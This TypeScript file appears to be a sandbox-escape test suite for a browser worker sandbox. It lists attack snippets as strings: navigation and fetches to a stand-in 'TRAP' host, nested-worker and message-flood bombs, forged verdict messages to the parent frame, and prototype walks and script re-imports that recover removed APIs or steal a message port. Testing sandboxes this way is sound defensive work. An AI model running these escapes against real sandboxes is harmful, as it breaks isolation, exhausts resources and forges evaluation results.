// To another place: navigation, other frames and workers, and back to what was taken away.
import { call, reach, type Attack } from '../attack.ts'

const nested = (make: string): string =>
  `const text = "fetch('http://TRAP/nested').then(() => postMessage('out'), () => postMessage('shut'))"
  const worker = ${make}
  const said = await new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = () => reject(new Error('an error event'))
    setTimeout(() => reject(new Error('silence')), 400)
  })
  worker.terminate()
  if (said !== 'out') throw new Error(said)
  return said`

export const realms: readonly Attack[] = [
  reach(
    'navigation of itself',
    `there(api.location, 'location')
    api.self.location = 'http://TRAP/self'
    api.location.href = 'http://TRAP/href'
    await new Promise((resolve) => setTimeout(resolve, 50))
    throw new Error('still here; the servers tell')`,
  ),
  reach(
    'navigation by assign',
    `return there(api.location?.assign, 'assign')('http://TRAP/assign')`,
  ),
  reach(
    'navigation by replace',
    `return there(api.location?.replace, 'replace')('http://TRAP/replace')`,
  ),
  reach(
    'navigation of the top',
    `there(api.top, 'top').location = 'http://TRAP/top'; return 'top'`,
  ),
  reach(
    'navigation of the frame',
    `there(api.parent, 'parent').location = 'http://TRAP/frame'; return 'frame'`,
  ),
  reach('a new window', `return there(api.open, 'open')('http://TRAP/window')`),
  reach(
    'a window of a service worker',
    `return there(api.clients, 'clients').openWindow('http://TRAP/clients')`,
  ),
  reach(
    'the documents around it',
    `return [there(api.document ?? api.frames ?? api.opener ?? api.frameElement, 'document')].length`,
  ),
  reach(
    'a nested worker from a blob',
    nested(`new api.Worker(api.URL.createObjectURL(new api.Blob([text])))`),
  ),
  reach(
    'a nested worker from a data URL',
    nested(`new api.Worker('data:text/javascript,' + encodeURIComponent(text))`),
  ),
  reach('a nested worker of another server', nested(`new api.Worker('http://TRAP/worker.js')`)),
  reach('a nested worker of the page’s site', nested(`new api.Worker('SITE', { type: 'module' })`)),
  reach(
    'a shared worker',
    `const shared = new (there(api.SharedWorker, 'SharedWorker'))('SITE'); return soon(shared)`,
  ),
  reach(
    'a service worker',
    `return there(api.navigator?.serviceWorker, 'serviceWorker').register('SITE')`,
  ),
  reach(
    'a notification',
    `return new (there(api.Notification, 'Notification'))('loot').title && api.Notification.permission === 'granted' ? 'shown' : Promise.reject(new Error('denied'))`,
  ),
  reach(
    'devices',
    `const { gpu, usb, hid, serial, bluetooth, mediaDevices } = there(api.navigator, 'navigator')
    return there(gpu ?? usb ?? hid ?? serial ?? bluetooth ?? mediaDevices, 'a device')`,
  ),
  call('closes itself', ['timeout', 'wrong'], `api.close?.(); return new Promise(() => {})`),
  call(
    'a verdict sent to the frame',
    ['wrong'],
    `for (const data of [{ type: 'done', id: 1 }, { type: 'ready' }, { type: 'problem', text: 'forged' }, { type: 'check', id: 1, verdict: { tree: { id: 'first', state: 'pass' }, tensors: [] } }])
      api.postMessage?.(data)
    return 'sent'`,
    { othersPass: true },
  ),
  call(
    'a flood of messages to the frame',
    ['wrong', 'timeout', 'memory'],
    `for (let i = 0; i < 100000; i++) api.postMessage?.({ type: 'done', id: i }); return 'sent'`,
  ),
  call(
    'a bomb of nested workers',
    ['wrong', 'thrown', 'timeout', 'memory'],
    `const url = api.URL.createObjectURL(new api.Blob(['for(;;);']))
    for (let i = 0; i < 8; i++) new api.Worker(url)
    return 'spinning'`,
  ),
  call(
    'everything that is left by name',
    ['wrong'],
    `const left = new Set()
    for (let at = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
      for (const name of Reflect.ownKeys(at)) left.add(String(name))
    return [...left].filter((name) => /fetch|Request|Socket|Worker|import|Cache|indexed|File|Blob|URL|Message|Channel|Port|Event|[nN]avigator|[lL]ocation|Stream|crypto|Canvas|Image|WebAssembly|Shared|Observer|open|close|report|Lock|Storage|Trusted|Font|origin/.test(name))`,
    { report: /^\[\]$/, othersPass: true },
  ),
  reach(
    'what was taken away, by way of the prototypes',
    `const found = []
    const seen = new Set()
    const walk = (value, depth) => {
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || depth > 8 || seen.has(value)) return
      seen.add(value)
      if (typeof value === 'function' && /^(fetch|XMLHttpRequest|WebSocket|Worker|BroadcastChannel|IDBFactory|CacheStorage|MessagePort|MessageEvent|EventTarget|Event|Blob|URL|ReadableStream|addEventListener|importScripts|postMessage)$/.test(value.name)) found.push(value.name)
      for (const key of Reflect.ownKeys(value)) {
        const own = Object.getOwnPropertyDescriptor(value, key)
        for (const part of [own.value, own.get, own.set]) walk(part, depth + 1)
        try { walk(value[key], depth + 1) } catch {}
      }
      walk(Object.getPrototypeOf(value), depth + 1)
    }
    const kept = Math.kept
    delete Math.kept
    walk(globalThis, 0)
    try { structuredClone(() => 1) } catch (error) { walk(error, 0) }
    walk(import('x:').catch(() => {}), 0)
    if (kept) Math.kept = kept
    if (found.length === 0) throw new Error('nothing of ' + seen.size + ' values')
    return found`,
  ),
  reach(
    'its first script once more, with a platform of the attacker’s',
    `const url = /blob:[^:)]+:?[^:)]*?(?=:\\d+:\\d+\\)?\\s*$)/m.exec((() => { try { null.x } catch (error) { return error.stack } })().split('\\n').pop())?.[0]
    const stolen = []
    const fake = class { postMessage() { stolen.push(this) } get data() { stolen.push(this) } static createObjectURL() {} static revokeObjectURL() {} }
    Object.assign(globalThis, { MessagePort: fake, MessageEvent: fake, Blob: fake, URL: fake, addEventListener: (...all) => stolen.push(...all) })
    await import(there(url, 'the address'))
    const ports = stolen.filter((one) => Object.prototype.toString.call(one) === '[object MessagePort]')
    if (ports.length === 0) throw new Error('ran again, no port')
    return 'a port'`,
  ),
  reach('eval', `return (0, eval)('1 + 1')`),
  reach('the Function constructor', `return (() => {}).constructor('return 1')()`),
  reach(
    'constructors of other functions',
    `return (async function* () {}).constructor('yield 1')()`,
  ),
  reach(
    'a timer with a text',
    `let ran = false; globalThis.mark = () => { ran = true }
    setTimeout('mark()'); await new Promise((resolve) => setTimeout(resolve, 30))
    if (!ran) throw new Error('not run')
    return 'run'`,
  ),
]
